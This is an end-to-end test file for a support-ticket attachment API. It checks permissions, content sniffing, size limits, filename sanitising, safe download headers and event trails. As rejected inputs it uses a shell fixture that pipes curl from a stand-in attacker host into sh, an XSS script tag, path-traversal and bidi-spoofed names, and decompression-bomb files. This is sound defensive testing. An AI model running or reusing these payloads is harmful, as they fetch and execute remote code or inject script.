// Files on tickets: who may attach, list, download and remove them; what is accepted (by its bytes, within
// size and count), how a download is served, and the trail and live stream that record each change.
import request from 'supertest';
import { makeFlateBombPdf } from './support/bomb-fixtures';
import { makeCorruptPdf, makeEncryptedPdf, makePdf, makeZip } from './support/fixtures';
import { signInAdmin, signUp, signUpAs, SignedIn } from './support/http';
import { makeJpegDeclaring, makePng, makePngBomb } from './support/image-fixtures';
import { openStream } from './support/sse';
import { bootTestApp, TestApp, WITHOUT_WORKFLOW } from './support/test-app';
import { createTicket } from './support/tickets';

const MiB = 1024 * 1024;
const LOG = Buffer.from('2026-12-07 09:14:02 VPN: authentication failed (error 809)\n');

describe('Ticket attachments (e2e)', () => {
  let testApp: TestApp;
  let url: string;
  let alice: SignedIn;
  let bob: SignedIn;
  let support: SignedIn;

  beforeAll(async () => {
    testApp = await bootTestApp({ ...WITHOUT_WORKFLOW, ATTACHMENT_MAX_MB: '1', ATTACHMENTS_PER_TICKET: '3' });
    url = testApp.url;
    const admin = await signInAdmin(url);
    [alice, bob] = [await signUp(url), await signUp(url)];
    support = await signUpAs(url, admin.token, 'support');
  });
  afterAll(() => testApp.close());

  const path = (ticketId: string, attachmentId?: string) => `/api/v1/tickets/${ticketId}/attachments${attachmentId ? `/${attachmentId}` : ''}`;
  const attach = (token: string, ticketId: string, content: Buffer, filename: string) =>
    request(url).post(path(ticketId)).auth(token, { type: 'bearer' }).attach('file', content, filename);
  const list = async (token: string, ticketId: string) =>
    (await request(url).get(path(ticketId)).auth(token, { type: 'bearer' }).expect(200)).body as { attachments: Array<Record<string, unknown>>; count: number };
  const download = (token: string, ticketId: string, attachmentId: string) =>
    request(url)
      .get(path(ticketId, attachmentId))
      .auth(token, { type: 'bearer' })
      .buffer(true)
      .parse((response, done) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => done(null, Buffer.concat(chunks)));
      });

  it('lets the requester attach a screenshot, lists it without its bytes, and serves it as a download', async () => {
    const ticket = await createTicket(url, alice.token);
    const screenshot = makePng(8, 6);
    const created = await attach(alice.token, ticket.ticket_id, screenshot, 'vpn error.png').expect(201);
    expect(created.body).toEqual({
      attachment_id: expect.stringMatching(/^[0-9a-f-]{36}$/),
      ticket_id: ticket.ticket_id,
      uploader_id: alice.id,
      filename: 'vpn error.png',
      content_type: 'image/png',
      size_bytes: screenshot.length,
      created_at: expect.any(String),
    });
    expect(await list(alice.token, ticket.ticket_id)).toEqual({ attachments: [created.body], count: 1 });
    expect(await list(support.token, ticket.ticket_id)).toEqual({ attachments: [created.body], count: 1 });

    const served = await download(support.token, ticket.ticket_id, created.body.attachment_id).expect(200);
    expect(Buffer.compare(served.body as Buffer, screenshot)).toBe(0);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['content-length']).toBe(String(screenshot.length));
    expect(served.headers['content-disposition']).toBe(`attachment; filename="vpn error.png"; filename*=UTF-8''vpn%20error.png`);
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
    expect(served.headers['cache-control']).toBe('private, no-store');
  });

  it('takes a log from support on the requester’s ticket, served as plain text under a safe name', async () => {
    const ticket = await createTicket(url, alice.token);
    const created = await attach(support.token, ticket.ticket_id, LOG, '..\\..\\logs/<vpn>:client.log').expect(201);
    expect(created.body).toMatchObject({ filename: '_vpn__client.log', content_type: 'text/plain; charset=utf-8', uploader_id: support.id });
    const served = await download(alice.token, ticket.ticket_id, created.body.attachment_id).expect(200);
    expect((served.body as Buffer).toString()).toBe(LOG.toString());
    expect(served.headers['content-type']).toBe('text/plain; charset=utf-8');
  });

  it.each([
    ['a text file named as a page gets .txt added', Buffer.from('<script>alert(1)</script>'), 'notes.html', 'notes.html.txt', 'text/plain; charset=utf-8'],
    ['a name without an extension gets its type’s', makePng(), 'screenshot', 'screenshot.png', 'image/png'],
    ['a name that hides its extension behind a bidi override loses the override', makePng(), 'report\u202Egnp.png', 'report_gnp.png', 'image/png'],
    ['an accented name is kept', makePdf(['Invoice']), 'écran facture.pdf', 'écran facture.pdf', 'application/pdf'],
  ])('%s', async (_case, content, given, stored, contentType) => {
    const ticket = await createTicket(url, alice.token);
    const created = await attach(alice.token, ticket.ticket_id, content, given).expect(201);
    expect(created.body).toMatchObject({ filename: stored, content_type: contentType });
    const served = await download(alice.token, ticket.ticket_id, created.body.attachment_id).expect(200);
    expect(served.headers['content-disposition']).toContain(`filename*=UTF-8''${encodeURIComponent(stored)}`);
  });

  it('keeps another requester’s ticket out of reach: 404 for attaching, listing, downloading and removing', async () => {
    const ticket = await createTicket(url, alice.token);
    const created = await attach(alice.token, ticket.ticket_id, makePng(), 'mine.png').expect(201);
    const id = created.body.attachment_id as string;
    const refusal = await attach(bob.token, ticket.ticket_id, makePng(), 'theirs.png').expect(404);
    expect(refusal.body.message).toBe(`Ticket ${ticket.ticket_id} not found`);
    await request(url).get(path(ticket.ticket_id)).auth(bob.token, { type: 'bearer' }).expect(404);
    await request(url).get(path(ticket.ticket_id, id)).auth(bob.token, { type: 'bearer' }).expect(404);
    await request(url).delete(path(ticket.ticket_id, id)).auth(bob.token, { type: 'bearer' }).expect(404);
    expect((await list(alice.token, ticket.ticket_id)).count).toBe(1);
    // An attachment of another ticket is not reached through a ticket one may see.
    const bobs = await createTicket(url, bob.token);
    await request(url).get(path(bobs.ticket_id, id)).auth(bob.token, { type: 'bearer' }).expect(404);
  });

  it.each([
    ['a zip named .png', makeZip({ 'readme.txt': 'hello' }), 'screenshot.png', 'named as a PNG image (screenshot.png) but its content is not a type we accept'],
    ['a script named .png', Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'), 'screenshot.png', 'named as a PNG image (screenshot.png) but its content is a text file'],
    ['a JPEG named .pdf', makeJpegDeclaring(640, 480), 'invoice.pdf', 'named as a PDF document (invoice.pdf) but its content is a JPEG image'],
    ['an executable', Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), 'setup.exe', 'The file is not a type we accept'],
  ])('refuses %s with 415 naming what is accepted, and stores nothing', async (_case, content, filename, reason) => {
    const ticket = await createTicket(url, alice.token);
    const response = await attach(alice.token, ticket.ticket_id, content, filename).expect(415);
    expect(response.body.message).toContain(reason);
    expect(response.body.message).toContain('attach PNG, JPEG, GIF or WebP images, PDF documents, and plain text or log files');
    expect((await list(alice.token, ticket.ticket_id)).count).toBe(0);
  });

  it.each([
    ['a PNG that inflates to 400 megapixels', makePngBomb(20_000, 20_000), 'bomb.png', 'The PNG image declares 400 megapixels; images of up to 40 megapixels are accepted'],
    ['a JPEG declaring 60,000 × 60,000 pixels', makeJpegDeclaring(60_000, 60_000), 'huge.jpg', 'The JPEG image declares 3600 megapixels'],
    ['a truncated PNG', makePng(16, 16).subarray(0, 40), 'cut.png', 'The file starts like a PNG image but is not a readable one'],
    ['a password-protected PDF', makeEncryptedPdf(), 'salaries.pdf', 'password'],
    ['a corrupt PDF', makeCorruptPdf(), 'broken.pdf', ''],
    ['a PDF that expands to 200 MB', makeFlateBombPdf(200 * MiB), 'manual.pdf', 'The PDF expands to more than'],
    ['an empty file', Buffer.alloc(0), 'empty.txt', 'The file is empty'],
  ])('refuses %s with 422 and stores nothing', async (_case, content, filename, reason) => {
    expect(content.length).toBeLessThan(MiB);
    const ticket = await createTicket(url, alice.token);
    const response = await attach(alice.token, ticket.ticket_id, content, filename).expect(422);
    expect(response.body.message).toContain(reason);
    expect((await list(alice.token, ticket.ticket_id)).count).toBe(0);
  });

  it('accepts a PDF without text (a scan) and a GIF', async () => {
    const ticket = await createTicket(url, alice.token);
    await attach(alice.token, ticket.ticket_id, makePdf(['']), 'scan.pdf').expect(201);
    const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
    await attach(alice.token, ticket.ticket_id, gif, 'pixel.gif').expect(201);
    expect((await list(alice.token, ticket.ticket_id)).attachments.map((file) => file.content_type)).toEqual(['application/pdf', 'image/gif']);
  });

  it('refuses a file over ATTACHMENT_MAX_MB with 413 naming the limit', async () => {
    const ticket = await createTicket(url, alice.token);
    const response = await attach(alice.token, ticket.ticket_id, Buffer.alloc(MiB + 1, 'a'), 'big.log').expect(413);
    expect(response.body.message).toBe('The file is larger than 1 MB (ATTACHMENT_MAX_MB)');
    expect((await list(alice.token, ticket.ticket_id)).count).toBe(0);
  });

  it('refuses a file beyond ATTACHMENTS_PER_TICKET with 409, and takes one again once a file is removed', async () => {
    const ticket = await createTicket(url, alice.token);
    const ids: string[] = [];
    for (const n of [1, 2, 3]) ids.push((await attach(alice.token, ticket.ticket_id, LOG, `vpn-${n}.log`).expect(201)).body.attachment_id);
    const response = await attach(support.token, ticket.ticket_id, LOG, 'vpn-4.log').expect(409);
    expect(response.body).toMatchObject({ code: 'too_many_attachments', message: expect.stringContaining('already holds 3 files (ATTACHMENTS_PER_TICKET)') });
    expect((await list(alice.token, ticket.ticket_id)).count).toBe(3);
    await request(url).delete(path(ticket.ticket_id, ids[0])).auth(alice.token, { type: 'bearer' }).expect(204);
    await attach(support.token, ticket.ticket_id, LOG, 'vpn-4.log').expect(201);
  });

  it('lets the uploader and staff remove a file, but not a requester removing support’s', async () => {
    const ticket = await createTicket(url, alice.token);
    const fromSupport = (await attach(support.token, ticket.ticket_id, LOG, 'trace.log').expect(201)).body.attachment_id;
    const fromAlice = (await attach(alice.token, ticket.ticket_id, makePng(), 'mine.png').expect(201)).body.attachment_id;
    const refused = await request(url).delete(path(ticket.ticket_id, fromSupport)).auth(alice.token, { type: 'bearer' }).expect(403);
    expect(refused.body.message).toBe('Only the person who attached a file, or support and admin, can remove it');
    await request(url).delete(path(ticket.ticket_id, fromAlice)).auth(support.token, { type: 'bearer' }).expect(204);
    await request(url).delete(path(ticket.ticket_id, fromSupport)).auth(support.token, { type: 'bearer' }).expect(204);
    await request(url).delete(path(ticket.ticket_id, fromSupport)).auth(support.token, { type: 'bearer' }).expect(404);
    expect((await list(alice.token, ticket.ticket_id)).count).toBe(0);
  });

  it('refuses a form without the file, or with another field', async () => {
    const ticket = await createTicket(url, alice.token);
    const empty = await request(url).post(path(ticket.ticket_id)).auth(alice.token, { type: 'bearer' }).field('note', 'x').expect(400);
    expect(empty.body.message).toEqual(expect.arrayContaining(['Unknown field: note']));
    const misnamed = await request(url).post(path(ticket.ticket_id)).auth(alice.token, { type: 'bearer' }).attach('screenshot', makePng(), 'a.png').expect(400);
    expect(misnamed.body.message).toBe('Send the document in the field "file", not "screenshot"');
  });

  it('records each change on the ticket’s trail, and the other party’s stream shows it live', async () => {
    const ticket = await createTicket(url, alice.token);
    const stream = await openStream(`${url}/api/v1/events/${ticket.ticket_id}`, { token: alice.token });
    try {
      await stream.waitFor((message) => message.data.type === 'connected');
      const created = (await attach(support.token, ticket.ticket_id, LOG, 'vpn.log').expect(201)).body;
      const added = await stream.waitFor((message) => message.data.type === 'attachment_added');
      expect(added.data).toMatchObject({
        ticket_id: ticket.ticket_id,
        actor_id: support.id,
        attachment_id: created.attachment_id,
        filename: 'vpn.log',
        content_type: 'text/plain; charset=utf-8',
        size_bytes: LOG.length,
      });
      await request(url).delete(path(ticket.ticket_id, created.attachment_id)).auth(support.token, { type: 'bearer' }).expect(204);
      const removed = await stream.waitFor((message) => message.data.type === 'attachment_removed');
      expect(removed.data).toMatchObject({ attachment_id: created.attachment_id, actor_id: support.id });
    } finally {
      stream.close();
    }
    const trail = await request(url).get(`/api/v1/tickets/${ticket.ticket_id}/events`).auth(alice.token, { type: 'bearer' }).expect(200);
    expect(trail.body.events.map((event: { type: string }) => event.type)).toEqual(['workflow_update', 'attachment_added', 'attachment_removed']);
    expect(JSON.stringify(trail.body.events)).not.toContain(LOG.toString().trim());
  });
});
